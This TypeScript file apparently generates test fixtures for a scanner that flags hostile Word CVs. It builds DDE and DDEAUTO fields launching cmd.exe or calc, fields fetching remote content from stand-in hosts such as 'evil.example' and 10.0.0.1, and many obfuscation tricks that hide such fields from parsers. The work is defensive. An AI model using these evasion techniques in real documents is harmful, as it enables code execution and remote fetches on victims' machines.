import { type DocxOptions, field, wordXml } from '../build-docx.ts';
import type { HostileCv } from '../hostile-cv.ts';
import { docxs, withDocument } from './docxs.ts';

const utf16 = (text: string): Buffer =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text.replace('UTF-8', 'UTF-16'), 'utf16le')]);

export function fields(): HostileCv[] {
  const secret = field('DDEAUTO c:\\\\cmd.exe');
  const simple = (instruction: string) =>
    `<w:p><w:fldSimple w:instr="${instruction.replaceAll('"', '&quot;')}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>`;
  const begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>';
  const text = (words: string) => `<w:r><w:instrText>${words}</w:instrText></w:r>`;
  const end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>';
  const nested = `<w:p>${begin}${begin}${text('QUOTE 68 68 69')}${end}${text('AUTO c:\\\\windows\\\\cmd.exe')}${end}</w:p>`;
  const halfNested = `<w:p>${begin}${text('DD')}${begin}${text('QUOTE 69')}${end}${text(' c:\\\\cmd.exe')}${end}</w:p>`;
  const split = field(' DD', 'EAU', 'TO ', 'c:\\\\Windows\\\\System32\\\\cmd.exe');
  const bodies = [
    field('DDE cmd "/c calc"'),
    field(' DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "/k calc.exe"'),
    split,
    split.replaceAll('w:r>', 'w:r >'),
    nested,
    halfNested,
    field('"DDEAUTO" c:\\\\cmd.exe'),
    field('dDeAuTo c:\\\\cmd.exe'),
    field('&#68;&#68;E c:\\\\cmd.exe'),
    simple('DDEAUTO c:\\\\cmd.exe'),
    simple('INCLUDEPICTURE "//evil/x.png"'),
    field('INCLUDEPICTURE "http://evil.example/x.png" \\d'),
    field('INCLUDETEXT "\\\\\\\\evil\\\\x.docx"'),
    field('INCLUDE "\\\\\\\\evil\\\\x.docx"'),
    field('IMPORT "\\\\\\\\evil\\\\x.png"'),
    field('LINK Excel.Sheet.8 "\\\\\\\\evil\\\\x.xls" a'),
    field('RD "\\\\\\\\evil\\\\x.docx"'),
    field('DATABASE \\d "\\\\\\\\evil\\\\x.mdb"'),
    field('MACROBUTTON AutoOpen click'),
    field('PRINT 27'),
    field('SOMETHINGNEW x'),
    `<w:p>${begin}${text('DDEAUTO c:\\\\cmd.exe')}</w:p>`,
    ...[' HYPERLINK ', ' HYPERLINK "f', '"HYPERLINK" \\o "https:" "'].map(
      (link) => `<w:p>${begin}${text(link)}${begin}${text('QUOTE "file://10.0.0.1/x"')}${end}${end}</w:p>`,
    ),
    `<w:p>${text('DDEAUTO c:\\\\cmd.exe')}</w:p>`,
    `<w:p>${begin}<w:del><w:r><w:delInstrText>DDEAUTO c:\\\\cmd.exe</w:delInstrText></w:r></w:del>${end}</w:p>`,
  ];
  const odd = wordXml(secret).replaceAll('w:', 'q:').replace('xmlns:w=', 'xmlns:q=');
  const inTwo = `${text('DD')}${text('EAUTO c:\\\\cmd.exe')}${end}`;
  const other = 'xmlns:x="urn:schemas-microsoft-com:x"';
  const passedOver = (content: string) =>
    `<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice Requires="zz">${content}</mc:Choice></mc:AlternateContent>`;
  /** What we would read and Word would not, or the other way round. */
  const halfSeen: readonly (readonly [string, HostileCv['held']])[] = [
    [`<w:fldSimple ${other} x:instr="PAGE" w:instr="DDEAUTO c:\\cmd.exe"/>`, 'damaged'],
    [`<w:fldSimple instr="PAGE" w:instr="DDEAUTO c:\\cmd.exe"/>`, 'damaged'],
    [`${begin}${passedOver(text('PAGE '))}${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
    [`${begin}${passedOver(end)}${inTwo}`, 'field'],
    [`${begin}<w:smartTag>${passedOver(end)}</w:smartTag>${inTwo}`, 'field'],
    [`${begin}<x:drop ${other}>${end}</x:drop>${inTwo}`, 'field'],
    [
      `${begin}<w:r><w:pict><v:shape><v:textbox><w:txbxContent>${end}</w:txbxContent></v:textbox></v:shape></w:pict></w:r>${inTwo}`,
      'field',
    ],
    [`${begin}<x:fldSimple ${other}/>${inTwo}`, 'hidden'],
    [`${begin}<w:r><x:fldChar ${other} fldCharType="end"/></w:r>${inTwo}`, 'hidden'],
    [`${begin}<w:r><x:fldChar xmlns:x="urn:x" w:fldCharType="end"/></w:r>${inTwo}`, 'hidden'],
    [`${begin}<w:r><w:fldChar w:fldCharType="End"/></w:r>${inTwo}`, 'hidden'],
    [`${begin}<w:fldSimple w:instr="PAGE">${end}</w:fldSimple>${inTwo}`, 'field'],
    [`<w:r><w:instrText><x:y ${other}/>DDEAUTO c:\\cmd.exe</w:instrText></w:r>`, 'field'],
    [`${begin}<w:r><w:instrText>PAGE <w:t>x</w:t></w:instrText></w:r>${end}`, 'field'],
    [`${begin}<w:r><w:t>DDEAUTO c:\\cmd.exe</w:t></w:r>${end}`, 'field'],
    [`${begin}<w:r><w:t>PAGE </w:t></w:r>${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
    [
      `${begin}<w:del><w:r><w:delInstrText>PAGE </w:delInstrText></w:r></w:del>${text('DDEAUTO c:\\cmd.exe')}${end}`,
      'field',
    ],
    [`${begin}<w:del>${text('PAGE ')}</w:del>${text('DDEAUTO c:\\cmd.exe')}${end}`, 'field'],
  ];
  const header = (name: string, more: DocxOptions = {}, content: string | Buffer = wordXml(secret)) =>
    ({
      relationships: [{ type: 'header', target: `/${name}` }],
      parts: [{ name, content }],
      ...more,
    }) satisfies DocxOptions;
  return [
    ...halfSeen.flatMap(([inner, held]) => docxs('a field half seen', held, { body: `<w:p>${inner}</w:p>` })),
    ...docxs(
      'a field in what looks like data',
      'field',
      { documentName: 'customXml/document.xml', body: secret },
      header('customXml/item1.xml'),
      {
        relationships: [
          { type: 'customXml', target: '../customXml/item1.xml' },
          { type: 'footer', target: '../CustomXML/Item1.xml' },
        ],
        parts: [{ name: 'customXml/item1.xml', content: wordXml(secret) }],
      },
    ),
    // Read by the relationship that leads there, whatever type the list of types gives it.
    ...docxs(
      'a field in what looks like a font',
      'unknownPart',
      ...['font/x', 'application/vnd.openxmlformats-officedocument.wordprocessingml.printerSettings'].map(
        (type) => header('word/a.odttf', { types: { '/word/a.odttf': type } }),
      ),
    ),
    ...docxs(
      'a field in what looks like a picture',
      'unknownPart',
      header(
        'word/a.png',
        { defaults: { png: 'image/png' } },
        Buffer.from(wordXml(secret).replace('UTF-8', 'UTF-16'), 'utf16le'),
      ),
    ),
    ...docxs(
      'a field under a name in disguise',
      'unknownPart',
      {
        relationships: [{ type: 'header', target: 'header1.fnt' }],
        parts: [{ name: 'word/%68eader1.fnt', content: wordXml(secret) }],
        defaults: { fnt: 'font/x' },
      },
      {
        relationships: [{ type: 'header', target: 'a//header1.fnt' }],
        parts: [{ name: 'word/a//header1.fnt', content: wordXml(secret) }],
        defaults: { fnt: 'font/x' },
      },
      ...[' header1.fnt', 'header1.fnt#x'].map((target) => ({
        relationships: [{ type: 'header', target }],
        parts: [{ name: `word/${target}`, content: wordXml(secret) }],
        defaults: { fnt: 'font/x', 'fnt#x': 'font/x' },
      })),
    ),
    ...docxs('a field in what looks like a font', 'embeddedObject', {
      parts: [{ name: 'word/a.odttf', content: wordXml(secret) }],
      types: { '/word/a.odttf': 'font/x' },
    }),
    ...docxs('a field in a table of relationships', 'unknownPart', header('word/header1.rels')),
    ...docxs('a field that runs or fetches', 'field', ...bodies.map((body) => ({ body }))),
    ...docxs('a field that runs or fetches', 'control', { body: field('CONTROL Forms.HTML') }),
    ...docxs(
      'a field that runs or fetches',
      'oddLink',
      { body: field('HYPERLINK "file://10.0.0.1/x"') },
      { body: field('HYPERLINK \\\\\\\\10.0.0.1\\\\x') },
    ),
    ...docxs(
      'a field that runs or fetches',
      'field',
      withDocument(odd),
      withDocument(utf16(wordXml(secret))),
      withDocument(
        wordXml(secret).replace(
          /http:\/\/schemas.openxmlformats.org\/wordprocessingml\/2006\/main/,
          'http://purl.oclc.org/ooxml/wordprocessingml/main',
        ),
      ),
    ),
    ...docxs('a field in a header', 'field', {
      relationships: [{ type: 'header', target: 'header1.xml' }],
      parts: [{ name: 'word/header1.xml', content: wordXml(secret) }],
    }),
    ...docxs('a field in a part of any name', 'field', {
      relationships: [{ type: 'footer', target: '/odd/Thing.XML' }],
      parts: [{ name: 'odd/thing.xml', content: wordXml(field('DDEAUTO x')) }],
    }),
  ];
}
